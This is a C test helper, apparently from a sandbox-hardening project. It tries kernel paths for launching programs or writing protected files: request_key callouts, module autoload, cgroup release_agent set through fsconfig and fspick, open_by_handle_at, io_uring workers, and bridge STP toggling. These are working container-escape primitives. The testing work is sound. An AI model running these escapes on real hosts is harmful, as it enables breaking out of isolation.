// SPDX-License-Identifier: Apache-2.0
/*
 * attack_helper MEANS ...: has the kernel start a program, where a shell has no command for it. Prints "done", or the
 * errno of the step that failed.
 *
 *   request-key            request_key(2) with a callout
 *   module FAMILY          a socket of a family that is a module
 *   mount DIR AGENT        a cgroup hierarchy with an agent, by fsconfig(2)
 *   remount DIR AGENT      the agent as an option of one that is mounted, by fspick(2)
 *   handle FILE TEXT       writes FILE, opened by its handle
 *   uring FILE TEXT        writes FILE, opened by an io_uring
 *   bridge NAME            makes a bridge and turns its spanning tree off and on
 */
#include "attack.h"

#include <linux/io_uring.h>
#include <linux/mount.h>
#include <linux/sockios.h>
#include <net/if.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/socket.h>

#define KEY_SPEC_PROCESS_KEYRING (-2)

static int fail(const char* what) {
  printf("%s: %s\n", what, strerrorname_np(errno));
  return 1;
}

static int done(void) {
  puts("done");
  return 0;
}

static int request_key(void) {
  if (syscall(SYS_request_key, "user", "holdfast:attack", "callout", KEY_SPEC_PROCESS_KEYRING) < 0)
    return fail("request_key");
  return done();
}

static int module(const char* family) {
  if (socket(atoi(family), SOCK_DGRAM, 0) < 0) return fail("socket");
  return done();
}

static int set_string(int fs, const char* key, const char* value) {
  return (int)syscall(SYS_fsconfig, fs, FSCONFIG_SET_STRING, key, value, 0);
}

static int mount_with_agent(const char* dir, const char* agent) {
  int fs = (int)syscall(SYS_fsopen, "cgroup", 0);
  if (fs < 0) return fail("fsopen");
  if (set_string(fs, "release_agent", agent) < 0) return fail("fsconfig");
  if (syscall(SYS_fsconfig, fs, FSCONFIG_SET_FLAG, "none", 0, 0) < 0 ||
      set_string(fs, "name", "configured") < 0)
    return fail("name");
  if (syscall(SYS_fsconfig, fs, FSCONFIG_CMD_CREATE, 0, 0, 0) < 0) return fail("create");
  int mounted = (int)syscall(SYS_fsmount, fs, 0, 0);
  if (mounted < 0 ||
      syscall(SYS_move_mount, mounted, "", AT_FDCWD, dir, MOVE_MOUNT_F_EMPTY_PATH) < 0)
    return fail("fsmount");
  return done();
}

static int remount_with_agent(const char* dir, const char* agent) {
  int fs = (int)syscall(SYS_fspick, AT_FDCWD, dir, 0);
  if (fs < 0) return fail("fspick");
  // Without these all controllers are meant, which are in use where the kernel has them (check_cgroupfs_options()).
  if (set_string(fs, "name", strrchr(dir, '/') + 1) < 0) return fail("fsconfig");
  if (syscall(SYS_fsconfig, fs, FSCONFIG_SET_FLAG, "none", 0, 0) < 0) return fail("fsconfig");
  if (set_string(fs, "release_agent", agent) < 0) return fail("fsconfig");
  if (syscall(SYS_fsconfig, fs, FSCONFIG_CMD_RECONFIGURE, 0, 0, 0) < 0) return fail("reconfigure");
  return done();
}

static int write_to(int fd, const char* text) {
  if (fd < 0) return fail("open");
  if (write(fd, text, strlen(text)) < 0) return fail("write");
  return done();
}

static int by_handle(const char* path, const char* text) {
  struct {
    struct file_handle handle;
    unsigned char bytes[MAX_HANDLE_SZ];
  } file = {.handle = {.handle_bytes = MAX_HANDLE_SZ}};
  int mount_id;
  int mount_fd = open(path, O_RDONLY);
  if (mount_fd < 0 || name_to_handle_at(AT_FDCWD, path, &file.handle, &mount_id, 0) < 0)
    return fail("handle");
  return write_to(open_by_handle_at(mount_fd, &file.handle, O_WRONLY), text);
}

static int by_ring(const char* path, const char* text) {
  struct io_uring_params p = {0};
  int ring = (int)syscall(SYS_io_uring_setup, 4, &p);
  if (ring < 0) return fail("io_uring_setup");
  char* sq = mmap(0, p.sq_off.array + p.sq_entries * 4, PROT_READ | PROT_WRITE, MAP_SHARED, ring,
                  IORING_OFF_SQ_RING);
  char* cq = mmap(0, p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe),
                  PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_CQ_RING);
  struct io_uring_sqe* sqe = mmap(0, p.sq_entries * sizeof *sqe, PROT_READ | PROT_WRITE, MAP_SHARED,
                                  ring, IORING_OFF_SQES);
  /* By a worker of the ring, not by this thread. */
  *sqe = (struct io_uring_sqe){.opcode = IORING_OP_OPENAT,
                               .flags = IOSQE_ASYNC,
                               .fd = AT_FDCWD,
                               .addr = (unsigned long)path,
                               .open_flags = O_WRONLY};
  ((unsigned*)(sq + p.sq_off.array))[0] = 0;
  __atomic_store_n((unsigned*)(sq + p.sq_off.tail), 1, __ATOMIC_RELEASE);
  if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, 0, 0) < 0)
    return fail("io_uring_enter");
  int fd = ((struct io_uring_cqe*)(cq + p.cq_off.cqes))->res;
  if (fd < 0) errno = -fd;
  return write_to(fd, text);
}

static int bridge(const char* name) {
  char path[128];
  int off;
  int fd = socket(AF_UNIX, SOCK_DGRAM, 0);
  if (ioctl(fd, SIOCBRADDBR, name) < 0 && errno != EEXIST) return fail("bridge");
  snprintf(path, sizeof path, "/sys/class/net/%s/bridge/stp_state", name);
  off = open(path, O_WRONLY);
  if (off < 0 || write(off, "0", 1) != 1) return fail("off");
  return write_to(open(path, O_WRONLY), "1");
}

int main(int argc, char** argv) {
  const char* means = argc > 1 ? argv[1] : "";
  if (strcmp(means, "request-key") == 0) return request_key();
  if (argc > 2 && strcmp(means, "module") == 0) return module(argv[2]);
  if (argc > 3 && strcmp(means, "mount") == 0) return mount_with_agent(argv[2], argv[3]);
  if (argc > 3 && strcmp(means, "remount") == 0) return remount_with_agent(argv[2], argv[3]);
  if (argc > 3 && strcmp(means, "handle") == 0) return by_handle(argv[2], argv[3]);
  if (argc > 3 && strcmp(means, "uring") == 0) return by_ring(argv[2], argv[3]);
  if (argc > 2 && strcmp(means, "bridge") == 0) return bridge(argv[2]);
  fprintf(stderr, "usage: attack_helper MEANS ...\n");
  return 2;
}
